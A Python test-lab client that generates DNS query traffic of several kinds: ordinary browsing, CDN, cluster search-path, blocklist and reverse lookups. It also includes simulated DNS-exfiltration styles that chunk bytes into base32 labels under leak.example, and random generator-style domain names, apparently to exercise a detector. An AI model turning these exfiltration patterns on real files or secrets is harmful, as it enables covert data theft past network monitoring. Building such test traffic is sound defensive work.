"""The DNS clients of the lab: `python -m tests.lab.lookups STYLE --server ADDRESS …`.

Styles of ordinary lookups, and `leak`: a small DNS exfiltration client (base32 labels under one zone).
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import itertools
import random
import socket
import sys
import time
from collections.abc import Iterator

import dns.exception
import dns.message

ANSWER_SECONDS = 2.0
SITES = (
    "news", "daily-post", "weather", "bakery", "bikes", "garden", "travel", "maps", "music", "video",
    "forum", "wiki", "bank", "post", "trains", "flights", "hotels", "recipes", "books", "films", "games",
    "photos", "jobs", "health", "school", "museum", "theatre", "radio", "science", "history", "art",
    "coffee", "tea", "shoes", "hats", "paint", "wood", "steel", "glass", "paper", "ink", "printers",
    "phones", "cameras", "clocks", "toys", "kites", "boats", "tents", "stoves", "lamps", "rugs",
)  # fmt: skip
HOSTS = ("www", "img", "api", "static", "cdn", "login", "m")
SEARCH = ("shop.svc.cluster.local", "svc.cluster.local", "cluster.local")
SERVICES = ("web.shop", "api.shop", "db.shop")
Question = tuple[str, str]


def browsing(chance: random.Random) -> Iterator[Question]:
    """Popular names often, rare ones seldom; A and AAAA together, as browsers ask."""
    while True:
        site = SITES[min(int(chance.expovariate(1 / 9)), len(SITES) - 1)]
        name = f"{chance.choice(HOSTS)}.{site}.example"
        yield name, "A"
        yield name, "AAAA"


def hashed(chance: random.Random) -> Iterator[Question]:
    """Names as content networks make them: a hash per customer, a handful of zones."""
    while True:
        digest = hashlib.sha256(str(int(chance.expovariate(1 / 40))).encode()).hexdigest()
        yield chance.choice((f"d{digest[:13]}.front.example", f"e{int(digest[:4], 16)}.dscb.edge.example")), "A"


def search(chance: random.Random) -> Iterator[Question]:
    """A pod's resolver with ndots:5 tries the search path first: mostly names that do not exist."""
    while True:
        name = chance.choice((*SERVICES, *(f"www.{site}.example" for site in SITES[:12])))
        for suffix in SEARCH:
            yield f"{name}.{suffix}", "A"
        yield name if name.endswith("example") else f"{name}.svc.cluster.local", "A"


def service(chance: random.Random) -> Iterator[Question]:
    """Only the names of services in the cluster, fully qualified."""
    while True:
        yield f"{chance.choice(SERVICES)}.svc.cluster.local", chance.choice(("A", "A", "AAAA"))


def blocklist(chance: random.Random) -> Iterator[Question]:
    """A mail server asks a block list about the addresses that call it: reversed octets as labels."""
    while True:
        octets = (chance.randint(1, 254) for _ in range(4))
        yield ".".join(map(str, octets)) + ".zen.bl.example", "A"


def reverse(chance: random.Random) -> Iterator[Question]:
    """Reverse lookups, as a log analyser makes them."""
    while True:
        yield f"{chance.randint(1, 254)}.{chance.choice(('113.0.203', '100.51.198'))}.in-addr.arpa", "PTR"


def leak(chance: random.Random) -> Iterator[Question]:
    """A file cut into 90-byte pieces, each a numbered name of base32 labels, answers as TXT."""
    for number in itertools.count():
        piece = base64.b32encode(chance.randbytes(90)).decode().rstrip("=").lower()
        labels = [piece[at : at + 50] for at in range(0, len(piece), 50)]
        yield ".".join([f"{number:x}", *labels, "leak.example"]), "TXT"


def drip(chance: random.Random) -> Iterator[Question]:
    """The same leak in short names asked for addresses only: 20 bytes a time, no answer payload."""
    for number in itertools.count():
        piece = base64.b32encode(chance.randbytes(20)).decode().lower()
        yield f"{piece}{number:x}.leak.example", "A"


def generated(chance: random.Random) -> Iterator[Question]:
    """Names as an arithmetic generator makes them, of which none exists."""
    while True:
        yield "".join(chr(97 + chance.randrange(25)) for _ in range(chance.randint(8, 15))) + ".example", "A"


STYLES = {
    each.__name__: each for each in (browsing, hashed, search, service, blocklist, reverse, leak, drip, generated)
}


def ask(sock: socket.socket, question: Question, number: int) -> bool:
    """Send one query and wait for its answer; False when there was none (it is not repeated)."""
    sock.send(dns.message.make_query(*question, id=number).to_wire())
    try:
        while dns.message.from_wire(sock.recv(65535)).id != number:
            continue
        return True
    except (TimeoutError, ConnectionRefusedError, dns.exception.DNSException):
        return False


def main(options: argparse.Namespace) -> int:
    """Ask `--count` questions of a style at random times of `--rate` a second, each from a port of its own.

    Returns 1 when more than one question in ten had no answer: then a server of the lab is broken.
    """
    chance = random.Random(options.seed)
    questions = STYLES[options.style](chance)
    family = socket.AF_INET6 if ":" in options.server else socket.AF_INET
    unanswered = 0
    for question in itertools.islice(questions, options.count):
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.settimeout(ANSWER_SECONDS)
            sock.connect((options.server, 53))
            unanswered += not ask(sock, question, chance.randrange(1 << 16))
        time.sleep(chance.expovariate(options.rate))
    return int(unanswered * 10 > options.count)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("style", choices=sorted(STYLES))
    parser.add_argument("--server", required=True, help="address of the name server")
    parser.add_argument("--count", type=int, default=100, help="questions")
    parser.add_argument("--rate", type=float, default=2.0, help="questions a second")
    parser.add_argument("--seed", type=int, default=1)
    sys.exit(main(parser.parse_args()))
